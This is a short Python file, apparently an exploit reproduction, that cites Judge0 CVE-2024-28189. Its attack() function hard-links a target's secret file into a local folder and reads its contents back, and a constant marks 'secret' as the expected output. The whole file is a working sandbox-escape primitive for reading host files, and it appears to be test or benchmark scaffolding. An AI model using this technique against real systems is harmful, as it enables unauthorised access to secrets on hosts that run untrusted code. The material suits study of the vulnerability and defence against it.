"""Link a file of the host into a folder of one's own."""

from __future__ import annotations

import os

ORIGIN = "Judge0, CVE-2024-28189: a link that chown follows."
SEEN = "secret"


def attack(target):
    os.link(target["secret_file"], "hard")
    with open("hard") as stream:
        return stream.read()
